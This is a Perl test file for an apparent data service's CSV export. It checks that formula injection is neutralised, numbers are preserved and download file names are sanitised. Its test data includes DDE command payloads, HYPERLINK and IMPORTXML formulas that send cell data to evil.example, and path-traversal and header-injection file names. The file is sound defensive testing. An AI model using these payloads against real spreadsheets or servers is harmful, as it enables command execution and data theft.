# Records as CSV for spreadsheets: no cell becomes a formula, numbers stay numbers, nothing is lost.
use strict;
use warnings;
use utf8;
use FindBin;
use lib "$FindBin::Bin/../lib";
use Test::More;
use Tidemark;

my $t = Tidemark->start(web => 1, hook => 0);

# Cells of RFC 4180 text.
sub cells {
	my ($text) = @_;
	utf8::decode($text);
	my (@rows, @row);
	while ($text =~ /\G(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|\z)/gc) {
		my ($quoted, $plain, $end) = ($1, $2, $3);
		push @row, defined $quoted ? $quoted =~ s/""/"/gr : $plain;
		next if $end eq ',';
		push @rows, [@row] if @row > 1 || length $row[0];
		@row = ();
		last if $end eq '';
	}
	return @rows;
}
sub csv {
	return join '', map {
		join(',', map { '"' . s/"/""/gr . '"' } @$_) . "\r\n"
	} @_
}

# Without the mark where a cell begins, by whatever separator.
sub unmarked {
	my ($cell) = @_;
	return $cell =~
	    s/(^|[;\t\r\n])'(?=[\s"'\x{a0}\x{200b}\x{3000}]*[\x{1}=+\-@＝＋－＠])/$1/gr
}

my @formulas = (
	'=1+1', '=cmd|\' /C calc\'!A0', '+1+cmd', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd',
	"\t=1+1", "\r=1+1", "\n=1+1", ' =1+1', '   =1+1', '"=1+1', '""=1+1', '" =1+1', "'=1+1",
	"''=1+1", '＝1+1', '＋1+1', '－1+1', '＠SUM(A1)',
	"\x{a0}=1", "\x{200b}=1", "\x{3000}=1", '=HYPERLINK("http://evil.example?x="&A1,"click")',
	'=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', '-A1', '+A1', '-(1)+A1', '-1-E5+',
	'+', '-', '@', '=', '-e5', '- A1', '+49 30 CALL', '@ann', '-1e', '-1e5e5', "\x{1}=1",
	'a;=cmd|\' /C calc\'!A0', "a\t=1+1", "a\n=1+1", 'a;b; =1+1', "a;'=1+1",
	"-5;\t@\r\n=1", 'a;＝1'
);
my @plain = (
	'-5', '+49301234', '+49 30 1234-56', '-1.5', '-1,50', '-1.5e-7', '-1E+10', '+1', '-0',
	'-(5)',
	'(5)', '1+1', 'a=b', '2026-11-20', "it's", "'quoted'", 'a@b.example', '"quoted"', ' plain',
	'plain ', '', '3-4', 'x', '-5%', '-5/6', 'a,b', "a\nb", '–5', '#REF!', '%00', 'a;b',
	'5;-5;x', "1\t+2"
);
my $src = $t->source;
my @values = (@formulas, @plain);
my $i = 0;
$src->put(
	'/cells.csv',
	csv(['id', 'value', '=HEADER()'], map { [sprintf('%03d', ++$i), $_, 'x'] } @values)
);
my $c = $t->connect(csv => $src->url('/cells.csv'), config => { key => 'id' });
is($t->wait_run($c->{activeSyncId})->{status}, 'complete', 'read');
my $d = $t->get("/api/connections/$c->{id}/datasets")->{json}{data}[0];
my %exact = map { $_->{id} => $_->{value} } values %{ $t->records($c->{id}) };
my $get = sub {
	my ($r) = $t->get("/api/datasets/$d->{id}/records?format=csv$_[0]");
	is($r->{status}, 200, "export$_[0]");
	my ($head, @rows) = cells($r->{content});
	return ($head, { map { $_->[0] => $_->[1] } @rows })
};

my ($head, $safe) = $get->('');
my ($raw_head, $raw) = $get->('&safe=false');
is(keys %$safe, @values, 'every row is there');
is($head->[2], "'=HEADER()", 'a header is no formula either');
is($raw_head->[2], '=HEADER()', 'and exact when that is wanted');
is_deeply(
	$raw, { map { $_ => $exact{$_} // '' } keys %$raw },
	'safe=false gives every value as it is'
);

my (@formula, @changed, @lost, @other);
for my $n (1 .. @values) {
	my $id = sprintf '%03d', $n;
	my $value = $exact{$id} // '';
	my $cell = $safe->{$id};
	push @formula, $cell
	    if $n <= @formulas
	    && $value =~ /^[\s"'\x{a0}\x{200b}\x{3000}]*[=+\-@＝＋－＠]/
	    && $cell !~ /^'/;
	push @changed, "$value: $cell" if $n > @formulas && $cell ne $value;
	push @lost, $value if unmarked($cell) ne $value;
	push @other, $value
	    if grep { /^[\s"\x{a0}\x{200b}\x{3000}]*[=@＝＋－＠]/ } split /[;\t\r\n]/, $cell;
}
is_deeply(\@formula, [], 'what a spreadsheet would take for a formula begins with an apostrophe');
is_deeply(\@changed, [], 'numbers, telephone numbers and other texts are left alone');
is_deeply(\@lost, [], 'taking the apostrophes away gives every value back');
is_deeply(\@other, [], 'nor does one that was told of another separator see a formula');

$src->put('/numbers.json', '[{"id":1,"n":-5,"f":-1.5e-7,"o":{"a":"=1"},"t":"-5+A1"}]');
my $j = $t->connect(json => $src->url('/numbers.json'), config => { key => 'id' });
$t->wait_run($j->{activeSyncId});
my $jd = $t->get("/api/connections/$j->{id}/datasets")->{json}{data}[0];
my ($names, $row) = cells($t->get("/api/datasets/$jd->{id}/records?format=csv")->{content});
my %row;
@row{@$names} = @$row;
is($row{n}, '-5', 'a number of JSON is a number');
is($row{f}, '-1.5e-7', 'in any notation');
is($row{t}, "'-5+A1", 'a text that looks like one is not');

subtest 'the name of the file is safe' => sub {
	for my $name (
		'../../etc/passwd', "a\"; filename=evil.exe", 'a;b', '=cmd',
		"ü\x{200f}gpj.exe", '...', 'con', 'a/b\\c'
	) {
		$src->put('/n.csv', "id\n1\n");
		my $c = $t->connect(csv => $src->url('/n.csv'), name => $name);
		$t->wait_run($c->{activeSyncId});
		my $d = $t->get("/api/connections/$c->{id}/datasets")->{json}{data}[0];
		like(
			$t->get("/api/datasets/$d->{id}/records?format=csv")
			    ->{headers}{'content-disposition'},
			qr/^attachment; filename="[A-Za-z0-9_-]+\.csv"$/, $name =~ s/[^ -~]/?/gr
		);
	}
};
my ($doc) = $t->get('/api/openapi.json')->{json}{paths}{'/api/datasets/{id}/records'}{get};
like($doc->{summary}, qr/safe=false/, 'the interface document says how to have exact cells');

done_testing;
